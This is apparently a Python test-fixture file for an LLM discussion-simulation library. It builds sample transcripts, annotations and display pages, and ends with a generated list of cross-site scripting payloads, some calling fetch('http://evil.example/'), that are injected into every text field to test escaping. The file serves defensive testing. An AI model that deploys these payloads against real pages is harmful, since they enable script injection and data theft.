"""One of everything that shows itself, and texts that try to get out of their element."""

import itertools
from dataclasses import replace
from pathlib import Path

import pandas as pd
from strategies import a_generation, an_annotation_set

import syndisco_nb as snb
from syndisco_nb.analysis.figures.forest import draw_forest
from syndisco_nb.backend.population import Quota, Sample
from syndisco_nb.builder import Preview
from syndisco_nb.display.colours import Look
from syndisco_nb.display.page import (
    Answer,
    Chapter,
    Column,
    Conversation,
    Entry,
    Facts,
    Fold,
    Gap,
    Image,
    Listed,
    Listing,
    Note,
    Page,
    Point,
    Prompt,
    Rating,
    Share,
    SideBySide,
    Speaker,
    Speakers,
    Strip,
    Table,
    Trajectory,
)
from syndisco_nb.records import (
    AnnotationSet,
    ChatMessage,
    Generation,
    Label,
    Message,
    Parent,
    Participant,
    Records,
    Sampling,
    Transcript,
)
from syndisco_nb.running.estimation import Estimate
from syndisco_nb.running.verification import Replay, Verification
from syndisco_nb.runs.failures import Failure
from syndisco_nb.runs.layout import Skipped, journal_path
from syndisco_nb.runs.serialization import to_line
from syndisco_nb.wording import replace_surrogates

SCALES = [
    {"type": "Likert", "name": "toxicity", "labels": ["1", "2", "3", "4", "5"], "instruction": "How toxic?"},
    {"type": "Flag", "name": "sarcasm", "labels": ["yes", "no"], "instruction": "Sarcastic?"},
]


MEAN = Point(0, "Ana", "3 (2 to 4)", 0.5, 0.25, 0.75)
CHOSEN = Point(1, "Ben", "for 1, against 2", shares=(1 / 3, 2 / 3))


def talk(length=6, text="A comment of some length, about the topic. ", names=("Ana", "Ben", "Cem")):
    """A discussion with prompts behind its comments, a moderator, a silence and a reply that was cut off."""
    prompt = (ChatMessage("system", "You are someone. " * 30), ChatMessage("user", f"{text * 6}\n\nWrite."))
    messages = []
    for index in range(length):
        moderated = index % 6 == 4
        generation = Generation(
            prompt, index, Sampling(max_tokens=40), "length" if index % 6 == 2 else "stop", 300, 40, 2.5
        )
        messages.append(
            Message(
                index,
                index,
                "Mo" if moderated else names[index % len(names)],
                "" if index % 6 == 5 else text * 3,
                "m",
                "opening" if index == 0 else "moderator" if moderated else "participant",
                silent=index % 6 == 5,
                generation=generation if index else None,
            )
        )
    return Transcript(
        id="00ab",
        index=3,
        seed=7,
        topic="Cars or bicycles?",
        users=tuple(Participant(name, "user", "m", ("age: 3",), "A forum.", "Be brief.") for name in names),
        moderator=Participant("Mo", "user", "m"),
        settings={"num_turns": length, "turn_manager": {"type": "RespondWithProbability", "p": 0.5}},
        comments=tuple(message for message in messages if not message.silent),
        silences=tuple(message for message in messages if message.silent),
    )


def forked(transcript, messages=3, changes=("moderator Mo → none",)):
    """A fork after some messages, with another word in each of its own comments."""
    own = [message if message.index < messages else _reworded(message) for message in transcript.comments]
    at = transcript.messages[messages - 1].turn
    return replace(
        transcript,
        id="00cd",
        moderator=None,
        comments=tuple(own),
        parent=Parent(transcript.id, at, messages, changes),
    )


def _reworded(message):
    return replace(message, text=f"Or: {message.text}")


def labels_of(transcript, name, values):
    """One annotator's labels; None is an answer that holds no label."""
    labels = []
    for comment, value in zip(transcript.comments, itertools.cycle(values)):
        raw = "Hard to say" if value is None else None
        common = (comment.index, comment.name, comment.text, 0, "m", replace(a_generation(), raw=raw))
        shares = {str(n): 0.2 for n in range(1, 6)}
        labels.append(Label(*common, value, "toxicity", None if value is None else shares))
        labels.append(Label(*common, value is not None and value > 2, "sarcasm"))
    annotator = Participant(name, "annotator", "m")
    return AnnotationSet(transcript.id, "discussion-00003", 0, 1, annotator, {"scales": SCALES}, tuple(labels))


def a_builder():
    """A design with two settings that vary, and all else that may be set."""
    judge = {"name": "strict", "instructions": "Be strict.", "model": snb.ScriptedModel(["1", "2"], "judge")}
    return (
        snb.ExperimentBuilder(seed=7)
        .model(snb.ScriptedModel(["I agree.", "I doubt it.", ""], name="talker"))
        .participants([snb.LLMPersona("Ana", age=41), snb.LLMPersona("Ben", age=30), snb.LLMPersona("Cem")])
        .context("A forum.")
        .instructions("Be brief.")
        .topics(["Should city centres be closed to cars?", "Should voting be compulsory?"])
        .turn_taking(snb.RespondWithProbability(0.5))
        .vary(moderator={"none": None, "facilitator": "Keep it civil."}, window={"short": 1, "long": 5})
        .turns(3)
        .discussions(2)
        .annotators([judge], [snb.Likert("toxicity", 1, 5)])
    )


def a_page():
    """A page with one block of each kind; text and markup differ for every value."""
    look = Look(0)
    ana = Entry(0, 0, "Ana", look, "opening", "Cars\nor bikes?", where="comments[0]")
    prompt = Prompt(
        "why", (ChatMessage("system", "Be <brief>."),), (("seed", "7"),), "raw words", thoughts=("reasoning", "Hm.")
    )
    rating = Rating(
        "toxicity",
        (Answer("Dana", "1", bars=(Share(0.25, "1 25%"),), probability=0.25), Answer("judge", None, "none of it")),
    )
    ben = Entry(1, 1, "Ben", Look(1), "participant", "Bikes.", cut="cut off", prompt=prompt, ratings=(rating,))
    quiet = Entry(2, 2, "Cem", Look(2), "participant", "", silent=True)
    turns = (("1", (ana,), (ben,), False), ("2", (quiet,), (quiet,), True))
    inner = Page("Inner", "inside", (("inner fact", "deep"),), (Note("folded note"),))
    return Page(
        "Kind",
        "A <title>",
        (("fact", "value"),),
        (
            Facts("Some facts", (("colour", "red"),)),
            Table("A table", ("name", "number", "share"), (("one", 1_200, Share(0.5, "half")),), "3 more in .rows"),
            Table("Narrow", ("", ""), (("left", Share(1.0, "all")),)),
            Note("A note."),
            Note("A warning.", warning=True),
            Prompt("The prompt", (ChatMessage("user", "Write."),), folded=False),
            Speakers("Who", (Speaker("Ana", look, "participant", "1 comment", (1.0, 0.0, None), ("age: 41",)),)),
            Conversation("Talk", (ana, ben, Gap("5 of 8 messages not shown"), quiet)),
            Trajectory("Over time", (MEAN,), (MEAN, None), "mean", ("5 (most)", "3", "1 (least)")),
            Trajectory("Stances", (CHOSEN,), (None, CHOSEN), "share of 3", categories=("for", "against")),
            Image("A figure", b"png", "A chart. Toxicity <3 by turn.", "Toxicity <3 by turn."),
            SideBySide("Both", ("parent", "fork"), turns, "1 turn more"),
            Fold("Open me", inner),
            Listing(
                "A list",
                (
                    Column("#", is_number=True),
                    Column("subject"),
                    Column("said", after="comments", is_number=True),
                    Column("who"),
                ),
                (
                    Listed((0, "Cars <or> bikes", 1, Strip((look, None, Look(1)), "Ana 1, Ben 1")), inner),
                    Listed((1, "Tax", 1_200, Strip((), ""))),
                ),
                "2 more: run[2] to run[3]",
            ),
            Chapter("A part", (Note("Inside."), Facts("Its facts", (("size", "small"),)))),
        ),
        Share(0.25, "1 of 4"),
        (("made by", "a test"),),
    )


def a_killed_run(experiment, folder):
    """Return a run of two discussions that was killed in the second."""
    run = experiment.begin(folder)
    journal_path(folder, "discussion-00001").write_bytes(b"".join(map(to_line, run[1].messages[:2])))
    (folder / "discussion-00001.json").unlink()
    head = folder / "run.json"
    head.write_text(head.read_text("utf-8").replace('"status": "finished"', '"status": "running"'))
    return snb.Run(folder)


def everything(folder):
    """One of each, by name."""
    model = snb.ScriptedModel(["I agree.", "I doubt it.", ""], name="talker")
    persona = snb.LLMPersona("Ana", age=41, sex="female", hobby="chess")
    people = snb.People([persona, snb.LLMPersona("Ben", age=30, sex="male"), snb.LLMPersona("Cem", sex="male")])
    users = [snb.LLMActor(model, one.username, one.to_attribute_list(), "A forum.", "Be brief.") for one in people]
    judge = snb.LLMActor(snb.ScriptedModel(["1", "2", "?"], "judge"), "", actor_type=snb.ActorType.ANNOTATOR)
    scale = snb.Likert("toxicity", 1, 5)
    experiment = snb.DiscussionExperiment(["Tax", "Toll"], users, num_turns=3, num_discussions=2, seed=1)
    rating = snb.AnnotationExperiment([judge], scale, seed=1)
    run = experiment.begin(folder / "talks")
    labels = rating.begin(run, folder / "labels")
    survey = pd.DataFrame({"sex": ["female", "male", "male"], "age": [30, 41, 52]})
    sample = snb.sample_people(survey, 3, quotas={"sex": {"female": 0.5, "male": 0.5}}, seed=1)
    builder = a_builder()
    study = builder.run(folder / "study")
    transcript = talk()
    sets = [labels_of(transcript, "strict", [1, 4, None]), labels_of(transcript, "mild", [1, 2])]
    return {
        "transcript": transcript,
        "message": transcript.comments[1],
        "generation": a_generation(),
        "sampling": Sampling(),
        "participant": transcript.users[0],
        "fork": forked(transcript),
        "parent": forked(transcript).parent,
        "annotations": sets[0],
        "free annotations": an_annotation_set(),
        "label": sets[0].labels[0],
        "annotated": snb.annotated(transcript, sets),
        "comparison": snb.compare(transcript, run[0]),
        "fork and parent": snb.compare(transcript, forked(transcript)),
        "persona": persona,
        "people": people,
        "actor": users[0],
        "annotator": judge,
        "model": model,
        "replicas": snb.Replicas([snb.ScriptedModel("Yes."), snb.ScriptedModel("Yes.")]),
        "turn manager": snb.RespondWithProbability(0.5),
        "host": snb.Hosted(2, host="Ana", then=snb.Weighted({"Ben": 2})),
        "scale": scale,
        "discussion": snb.Discussion(users, topic="Tax", seed=1),
        "annotation": snb.Annotation(judge, transcript, scale, seed=1),
        "experiment": experiment,
        "annotation experiment": rating,
        "run": run,
        "killed run": a_killed_run(experiment, folder / "killed"),
        "annotation run": labels,
        "part of a run": run[:2],
        "records": Records([transcript]),
        "sample": sample,
        "builder": builder,
        "unfinished builder": snb.ExperimentBuilder().participants(sample),
        "preview": builder.preview("facilitator+long"),
        "study": study,
        "labels of a study": study.annotate(),
        "cost": snb.Cost(1200, 30_000, 4_000, 61.5, 900),
        "estimate": Estimate(1200, 30_000, 4_000, 61.5, 900, 0, 4, 1200, 3.0, 16, 32, over=True),
        "estimate under way": Estimate(1200, 30_000, 4_000, 0.0, 0, 0, 4, 1200, 3.0, 8, 32),
        "verification": run.verify(),
        "problems": replace(run.verify(), problems=("discussion-00001.json: it is damaged.",)),
        "replay": run.replay(0),
        "difference": replace(run.replay(0), difference="turn 1 (Ana) differs: text: 'a' → 'b'"),
        "report": run.report(),
        "figure": draw_forest(["a"], [1.0], [(0.0, 2.0)], "Effect <a>", "difference", "3 pairs."),
        "failure": Failure("discussion-00001", "ModelError", "out of memory", 2, 1),
        "costs": run.costs(),
        "costs of a study": study.costs(),
        "order": run.order,
        "order of a study": study.order,
        "failures": run.failures,
        "skipped files": run.skipped,
        "skipped": Skipped("notes.txt", "it is not a .json file"),
    }


_ACTS = ["alert(1)", "window.pwned=1", "fetch('http://evil.example/')"]
_SHAPES = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src='http://evil.example/x.png' onload={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" style="animation-name:x" onanimationstart="{}',
    "`onerror={}`",
    "</div></li></ol></article></details><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</pre></code><script>{}</script>",
    "<!--<script>{}</script>-->",
    "--><script>{}</script><!--",
    "<![CDATA[<script>{}</script>]]>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}",
    "\\u003cscript\\u003e{}",
    "%3Cscript%3E{}",
    "＜script＞{}",
    "<\u0000script>{}</script>",
    "<scr\u0000ipt>{}</script>",
    "\u202e<script>{}</script>\u2069\u2066",
    "\ud800<script>{}</script>",
    "<style>@import 'http://evil.example/x.css';/*{}*/</style>",
    "<link rel=stylesheet href='http://evil.example/x.css?{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='http://evil.example/{}'>",
    "expression({});background:url(http://evil.example/x)",
    "}}*{{display:none}}/*{}*/",
    "![x](javascript:{})",
    "[x](javascript:{})",
    "<javascript:{}>",
    "```\n<script>{}</script>\n```",
    "    <script>{}</script>",
    "> # **{}** _x_ ~~y~~ | a | b |",
    "$\\href{{javascript:{}}}{{x}}$",
    "$$\\unicode{{x}}{}$$ \\(x\\) \\[y\\]",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}} #{{x}} <%= x %>",
    "\r\n\r\n<script>{}</script>",
    "\x1b]0;{}\x07\x1b[2J",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "<plaintext>{}",
    "<select><option><script>{}</script>",
    "<table><td><script>{}</script>",
    "<button popovertarget=x onclick={}>x</button><div popover id=x>",
]
PAYLOADS = [shape.format(act) for shape in _SHAPES for act in _ACTS]


def infected(payload):
    """Records with a payload in every field that takes text, ready to be shown."""
    prompt = (ChatMessage("system", payload), ChatMessage("user", payload))
    generation = Generation(prompt, 1, Sampling(), "length", raw=payload, reasoning=payload, notes=(payload,))
    message = Message(
        1, 1, payload, payload, payload, generation=generation, speaks_for=(payload,), meta={payload: payload}
    )
    moderator = replace(message, index=2, role="moderator", name=f"M {payload}")
    silence = replace(message, index=3, silent=True, text="")
    person = Participant(payload, payload, payload, (payload,), payload, payload, payload, payload, {payload: payload})
    transcript = Transcript(
        payload,
        1,
        1,
        payload,
        (person,),
        replace(person, name=f"M {payload}"),
        {payload: payload, "turn_manager": {"type": payload, payload: payload}},
        (replace(message, index=0, role="opening"), message, moderator),
        (silence,),
        Parent(payload, 1, 1, (payload,)),
        payload,
        payload,
        {payload: payload},
    )
    scale = {"type": payload, "name": payload, "labels": [payload], "instruction": payload}
    label = Label(1, payload, payload, 1, payload, generation, payload, payload, {payload: 0.5}, 0.5, (payload,))
    annotations = AnnotationSet(
        payload, payload, 1, 1, person, {"scales": [scale]}, (label, replace(label, value=None)), {payload: payload}
    )
    written = replace_surrogates(payload)  # what is asked holds no half characters
    persona = snb.LLMPersona(" ".join(written.split()), sex=written, **{written: written})
    model = snb.ScriptedModel("x", name=written)
    actor = snb.LLMActor(model, written, [written], written, written)
    choice = snb.Choice(" ".join(written.split()), ["a", "b"], written)
    builder = (
        snb.ExperimentBuilder(seed=1)
        .model(snb.ScriptedModel([written], name=written))
        .participants([persona], 1)
        .context(written)
        .instructions(written)
        .topics([written])
        .moderator(written, f"M {written}", [written])
        .turn_taking(snb.Weighted({persona.username: 2}))
        .annotators([{"name": written, "instructions": written}], choice)
    )
    sample = Sample([persona], [Quota(payload, payload, 0.5, 0.5, 0.5)])
    return [
        transcript,
        message,
        generation,
        person,
        transcript.parent,
        label,
        annotations,
        snb.annotated(transcript, annotations),
        snb.compare(transcript, replace(transcript, topic="other")),
        snb.compare(transcript, forked(transcript, 1, (payload,))),
        persona,
        snb.People([persona]),
        actor,
        model,
        snb.Weighted({payload: 2}),
        snb.Choice(" ".join(written.split()), ["a", written.strip()], written),
        snb.Discussion([actor], topic=written, seed=1),
        snb.DiscussionExperiment([written], [actor], num_active_users=1),
        snb.AnnotationExperiment([snb.LLMActor(model, written, actor_type=snb.ActorType.ANNOTATOR)]),
        Failure(payload, payload, payload, 1, 1, prompt=prompt),
        Skipped(payload, payload),
        builder,
        builder.vary(context={"a": written, "b": f"{written} b"}),
        Preview(payload, payload, payload, prompt, prompt),
        sample,
        Verification(Path(payload.replace("\0", "")), 1, (payload,)),
        Replay(payload, payload),
        Records([transcript, annotations]),
    ]
